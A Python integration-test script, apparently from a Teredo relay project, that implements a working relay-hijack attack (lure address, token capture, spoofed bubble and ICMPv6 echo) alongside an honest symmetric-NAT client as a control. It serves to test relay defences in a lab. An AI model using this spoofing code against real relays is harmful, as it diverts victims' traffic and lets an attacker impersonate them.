#!/usr/bin/python3
"""Relay-hijack attacker (and honest symmetric-NAT client) for teredo-relay lab tests.

Run inside a lab namespace (ip netns exec NS /usr/bin/python3 teredo_attack.py ...), used by
tests/integration/relay_hijack.sh. Standard library only: packets are built with struct, sent
from plain UDP sockets bound to the namespace's own address.

The attack (RFC 4380 §5.4.1, §5.4.2; RFC 6081 §5.2): a relay that has not yet trusted a Teredo
destination D sends an indirect bubble to the server embedded in D, UDP port 3544, with a
link-local "token" IPv6 source; for symmetric NATs it accepts a reply bubble addressed to that
token even when its UDP source port differs from the one embedded in D. An attacker with its own
public address A names A as the server of a "lure" address (the victim's flags and mapping, A as
the server), gets native traffic sent to the lure, and so receives the relay's bubble, and its
token, at A:3544. If the token only depends on the mapping and is accepted from any IPv4
address, a bubble from A with the victim's address as source and the token as destination
re-points the victim's peer entry to A: the victim's traffic is diverted, and the attacker may
send as the victim. A relay that only accepts the token from the IPv4 address embedded in the
victim's address still falls to a host behind the same public address (a shared NAT) unless the
token is bound to the whole Teredo address: the lure's token must say nothing about the victim.

Commands (each prints JSON lines on stdout; the last one is the result)
  addr    a Teredo address (RFC 4380 §4): from --server and --mapped IP:PORT, or --like ADDR with
          the server field replaced by --server (the lure: flags and mapping kept)
  token   act as the server named in a Teredo address PEER: wait on --bind (A:3544) for the
          relay's indirect bubble to PEER and print its source, the token
  client  an honest Teredo client behind a symmetric NAT (the legitimate use of the token): its
          address --addr embeds one port, it answers the relay's indirect bubble (received on
          --server-bind, as its own server would forward it) from another port (--bind) with a
          bubble to the token, then answers the ICMPv6 echo requests the relay sends it
  hijack  the attack: from each --bind socket send a bubble (source --victim, destination
          --token), then an ICMPv6 echo request (source --victim) to --dst, all to --relay; then
          listen on those sockets and report every datagram received (a hijacked relay sends the
          victim's traffic there) until SIGTERM or --seconds

Examples
  teredo_attack.py addr --like 2001:0:c633:640a:8000:63fe:3fff:fdf4 --server 198.51.100.66
  teredo_attack.py token --bind 198.51.100.66:3544 --peer LURE --seconds 10
  teredo_attack.py client --server-bind 198.51.100.66:3544 --bind 198.51.100.66:45001 \\
      --addr CONTROL --echoes 3 --seconds 10
  teredo_attack.py hijack --relay 198.51.100.20:3545 --bind 198.51.100.66:3544 \\
      --victim VICTIM --token fe80::... --dst 2001:db8:2::2 --seconds 20

Exit status: 0 when the command ran (whatever came back), 1 when it timed out waiting for what it
needs (token, client), 2 on usage errors.
"""

import argparse
import ipaddress
import json
import select
import signal
import socket
import struct
import sys
import time

from relay_load import checksum16  # the Internet checksum (RFC 1071), same folder

TEREDO_PREFIX = b"\x20\x01\x00\x00"  # 2001:0::/32 (RFC 4380 §2.6)
NH_ICMPV6 = 58
NH_NONE = 59  # "no next header": a bubble (RFC 4380 §2.8)
ICMPV6_ECHO_REQUEST = 128
ICMPV6_ECHO_REPLY = 129
ECHO_ID = 0x4854  # "HT": default identifier of the spoofed echo requests (hijack --echo-id)
ECHO_PAYLOAD = b"teredo-attack-spoofed-echo"
MAX_SECONDS = 60  # every command is bounded in time

# Set by SIGTERM/SIGINT: the listening loops stop and print their result (see stop_on_signal()).
STOPPED = False


# ---------------------------------------------------------------------------------------------
# Addresses and packets


def endpoint(text):
    """'IPv4:PORT' -> (ip text, port)."""
    host, sep, port = text.rpartition(":")
    if not sep:
        raise argparse.ArgumentTypeError(f"{text}: need IPv4:PORT")
    ipaddress.IPv4Address(host)
    return host, int(port)


def ep_text(ep):
    return "%s:%d" % ep


def teredo_address(server, mapped_ip, mapped_port, flags=0):
    """RFC 4380 §4: 2001:0:<server>:<flags>:<~port>:<~client IPv4>."""
    raw = (TEREDO_PREFIX + ipaddress.IPv4Address(server).packed +
           struct.pack("!HH", flags, mapped_port ^ 0xFFFF) +
           bytes(b ^ 0xFF for b in ipaddress.IPv4Address(mapped_ip).packed))
    return str(ipaddress.IPv6Address(raw))


def teredo_fields(addr):
    """(server, flags, mapped IPv4, mapped port) of a Teredo address; ValueError otherwise."""
    raw = ipaddress.IPv6Address(addr).packed
    if raw[:4] != TEREDO_PREFIX:
        raise ValueError(f"{addr} is not a Teredo address")
    server = str(ipaddress.IPv4Address(raw[4:8]))
    flags, port = struct.unpack("!HH", raw[8:12])
    mapped = str(ipaddress.IPv4Address(bytes(b ^ 0xFF for b in raw[12:16])))
    return server, flags, mapped, port ^ 0xFFFF


def same_addr(a, b):
    return ipaddress.IPv6Address(a) == ipaddress.IPv6Address(b)


def ipv6_header(src, dst, next_header, payload_len, hop_limit=64):
    """A 40-byte IPv6 header (RFC 8200 §3)."""
    return (struct.pack("!IHBB", 6 << 28, payload_len, next_header, hop_limit) +
            ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed)


def bubble(src, dst):
    """A Teredo bubble: an IPv6 header, next header 59, no payload (RFC 4380 §2.8)."""
    return ipv6_header(src, dst, NH_NONE, 0)


def icmpv6_echo(src, dst, echo_type, ident, seq, payload):
    """An IPv6 packet carrying an ICMPv6 echo request/reply (RFC 4443 §4.1, §4.2), with the
    pseudo-header checksum of RFC 8200 §8.1."""
    body = struct.pack("!BBHHH", echo_type, 0, 0, ident, seq) + payload
    pseudo = (ipaddress.IPv6Address(src).packed + ipaddress.IPv6Address(dst).packed +
              struct.pack("!I3xB", len(body), NH_ICMPV6))
    csum = 0xFFFF - checksum16(pseudo + body)
    body = body[:2] + struct.pack("!H", csum) + body[4:]
    return ipv6_header(src, dst, NH_ICMPV6, len(body)) + body


def decode(datagram):
    """A Teredo UDP payload -> dict: the IPv6 packet's source, destination, next header, payload
    length and, for ICMPv6 echo, type/id/seq/payload. Authentication and origin indication
    headers (RFC 4380 §5.1.1) are skipped; None when no IPv6 packet follows."""
    data = datagram
    info = {"size": len(datagram)}
    if data[:2] == b"\x00\x01" and len(data) >= 4:  # authentication header
        skip = 4 + data[2] + data[3] + 8 + 1
        info["auth"] = True
        data = data[skip:]
    if data[:2] == b"\x00\x00" and len(data) >= 8:  # origin indication
        info["origin"] = True
        data = data[8:]
    if len(data) < 40 or data[0] >> 4 != 6:
        return None
    plen, nh = struct.unpack("!HB", data[4:7])
    info.update(src=str(ipaddress.IPv6Address(data[8:24])),
                dst=str(ipaddress.IPv6Address(data[24:40])), nh=nh, plen=plen,
                bubble=(nh == NH_NONE and plen == 0))
    body = data[40:40 + plen]
    if nh == NH_ICMPV6 and len(body) >= 8:
        t, _, _, ident, seq = struct.unpack("!BBHHH", body[:8])
        info.update(icmp_type=t, icmp_id=ident, icmp_seq=seq, icmp_payload=body[8:])
    return info


def open_udp(ep):
    """A UDP socket bound to ep; no SO_REUSEADDR, so a port still held elsewhere fails loudly."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(ep)
    return s


def usage_error(msg):
    print(f"teredo_attack: {msg}", file=sys.stderr)
    sys.exit(2)


def emit(obj):
    """One JSON line on stdout, flushed at once (the test script waits for some of them)."""
    print(json.dumps(obj, sort_keys=True), flush=True)


def stop_on_signal():
    """SIGTERM/SIGINT end the listening loops cleanly, so the result is still printed."""
    def handler(_signum, _frame):
        global STOPPED
        STOPPED = True
    signal.signal(signal.SIGTERM, handler)
    signal.signal(signal.SIGINT, handler)


def receive(sockets, deadline):
    """Yields (socket, datagram, source endpoint) until deadline (monotonic) or a stop signal;
    polls 5 times a second so a signal is noticed promptly."""
    while not STOPPED:
        left = deadline - time.monotonic()
        if left <= 0:
            return
        ready, _, _ = select.select(sockets, [], [], min(left, 0.2))
        for s in ready:
            try:
                data, src = s.recvfrom(65535)
            except OSError:
                continue  # e.g. an ICMP port unreachable reported on the socket
            yield s, data, src


# ---------------------------------------------------------------------------------------------
# Commands


def cmd_addr(args):
    if args.like:
        _, flags, mapped_ip, mapped_port = teredo_fields(args.like)
    elif args.mapped:
        mapped_ip, mapped_port = args.mapped
        flags = 0
    else:
        usage_error("addr: give --like or --mapped")
    if args.flags is not None:
        flags = args.flags
    print(teredo_address(args.server, mapped_ip, mapped_port, flags))


def cmd_token(args):
    """Wait for the relay's indirect bubble to PEER on our 'server' socket (RFC 4380 §5.4.1:
    the relay sends it to <server embedded in PEER>:3544) and report its source, the token."""
    sock = open_udp(args.bind)
    emit({"event": "listening", "bind": ep_text(args.bind)})
    ignored = 0
    for _, data, src in receive([sock], time.monotonic() + args.seconds):
        info = decode(data)
        if info is None or not info["bubble"] or not same_addr(info["dst"], args.peer):
            ignored += 1  # not the bubble we wait for
            continue
        token = ipaddress.IPv6Address(info["src"])
        emit({"event": "token", "token": str(token), "from": ep_text(src), "dst": info["dst"],
              "size": info["size"], "link_local": token in ipaddress.IPv6Network("fe80::/64"),
              "ignored": ignored})
        return 0
    emit({"event": "timeout", "ignored": ignored})
    return 1


def cmd_client(args):
    """An honest client behind a symmetric NAT: its Teredo address embeds the port its NAT gave
    it towards its server; towards the relay the NAT uses another port (--bind). The relay must
    accept its answer to the token from that port (RFC 6081 §5.2) and then send it the queued
    packets there, and later ones too."""
    server_sock = open_udp(args.server_bind)
    sock = open_udp(args.bind)
    _, _, mapped_ip, mapped_port = teredo_fields(args.addr)
    if (mapped_ip, mapped_port) == args.bind:
        usage_error("client: --bind must differ from the mapping embedded in --addr")
    emit({"event": "listening", "server_bind": ep_text(args.server_bind),
          "bind": ep_text(args.bind)})
    tokens, echoes, other = [], 0, 0
    for s, data, src in receive([server_sock, sock], time.monotonic() + args.seconds):
        info = decode(data)
        if info is None or not same_addr(info["dst"], args.addr):
            other += 1
            continue
        if s is server_sock and info["bubble"]:
            # The indirect bubble, as our server would forward it to us (RFC 4380 §5.3.1): answer
            # it to its source, the relay's token, from the symmetric NAT's other port.
            tokens.append(info["src"])
            sock.sendto(bubble(args.addr, info["src"]), src)
        elif s is sock and info.get("icmp_type") == ICMPV6_ECHO_REQUEST:
            reply = icmpv6_echo(args.addr, info["src"], ICMPV6_ECHO_REPLY, info["icmp_id"],
                                info["icmp_seq"], info["icmp_payload"])
            sock.sendto(reply, src)
            echoes += 1
            if echoes >= args.echoes:
                break
        else:
            other += 1
    emit({"event": "client", "tokens": tokens, "echo_replies": echoes, "other": other,
          "done": echoes >= args.echoes})
    return 0 if echoes >= args.echoes else 1


def cmd_hijack(args):
    """Claim the victim's Teredo address from our own IPv4 address with the token obtained
    through the lure, send as the victim, then report what the relay sends us."""
    sockets = [open_udp(ep) for ep in args.bind]
    _, _, victim_ip, victim_port = teredo_fields(args.victim)
    sent = 0
    for seq, s in enumerate(sockets, 1):
        # 1. The hijack bubble: "the victim, answering your token from a new port".
        s.sendto(bubble(args.victim, args.token), args.relay)
        # 2. Data as the victim: accepted only if the relay now believes this socket is it.
        s.sendto(icmpv6_echo(args.victim, args.dst, ICMPV6_ECHO_REQUEST, args.echo_id, seq,
                             ECHO_PAYLOAD), args.relay)
        sent += 2
    emit({"event": "sent", "packets": sent, "from": [ep_text(ep) for ep in args.bind],
          "victim": args.victim, "victim_mapping": "%s:%d" % (victim_ip, victim_port),
          "token": args.token})
    received, to_victim, samples = 0, 0, []
    for s, data, src in receive(sockets, time.monotonic() + args.seconds):
        received += 1
        info = decode(data) or {"size": len(data), "undecoded": True}
        hit = "dst" in info and same_addr(info["dst"], args.victim)
        to_victim += hit
        info.pop("icmp_payload", None)
        info.update(sock=ep_text(s.getsockname()), udp_src=ep_text(src), to_victim=hit)
        emit(dict(info, event="received"))
        if len(samples) < 10:
            samples.append(info)
    emit({"event": "result", "sent": sent, "received": received, "to_victim": to_victim,
          "samples": samples})
    return 0


def parser():
    ap = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    ad = sub.add_parser("addr", help="build a Teredo address (or a lure)")
    ad.add_argument("--server", required=True, help="IPv4 of the server field")
    ad.add_argument("--mapped", type=endpoint, help="mapped IPv4:PORT")
    ad.add_argument("--like", help="take flags and mapping from this Teredo address")
    ad.add_argument("--flags", type=lambda s: int(s, 0), help="flags (default: --like's or 0)")
    tk = sub.add_parser("token", help="receive the relay's indirect bubble for PEER")
    tk.add_argument("--bind", type=endpoint, required=True, help="our IPv4:3544 (the 'server')")
    tk.add_argument("--peer", required=True, help="the Teredo address the bubble is for")
    tk.add_argument("--seconds", type=float, default=10.0)
    cl = sub.add_parser("client", help="an honest symmetric-NAT client answering a token")
    cl.add_argument("--server-bind", type=endpoint, required=True,
                    help="IPv4:3544 of the server named in --addr")
    cl.add_argument("--bind", type=endpoint, required=True,
                    help="the NAT's port towards the relay (not the embedded one)")
    cl.add_argument("--addr", required=True, help="the client's Teredo address")
    cl.add_argument("--echoes", type=int, default=3, help="stop after this many echo replies")
    cl.add_argument("--seconds", type=float, default=10.0)
    hj = sub.add_parser("hijack", help="claim the victim's address with the lure's token")
    hj.add_argument("--relay", type=endpoint, required=True, help="IPv4:PORT of the relay")
    hj.add_argument("--bind", type=endpoint, action="append", required=True,
                    help="attacker socket IPv4:PORT (repeatable: one attempt from each)")
    hj.add_argument("--victim", required=True, help="the victim's Teredo address")
    hj.add_argument("--token", required=True, help="the token from the lure's bubble")
    hj.add_argument("--dst", required=True, help="native IPv6 host for the spoofed echo")
    hj.add_argument("--echo-id", type=lambda s: int(s, 0), default=ECHO_ID,
                    help="ICMPv6 echo identifier of the spoofed echo (to find it on the wire)")
    hj.add_argument("--seconds", type=float, default=20.0, help="listen at most this long")
    return ap


def main(argv):
    args = parser().parse_args(argv)
    if getattr(args, "seconds", 0) > MAX_SECONDS:
        usage_error(f"refusing to run longer than {MAX_SECONDS} s")
    stop_on_signal()
    commands = {"addr": cmd_addr, "token": cmd_token, "client": cmd_client, "hijack": cmd_hijack}
    return commands[args.cmd](args) or 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
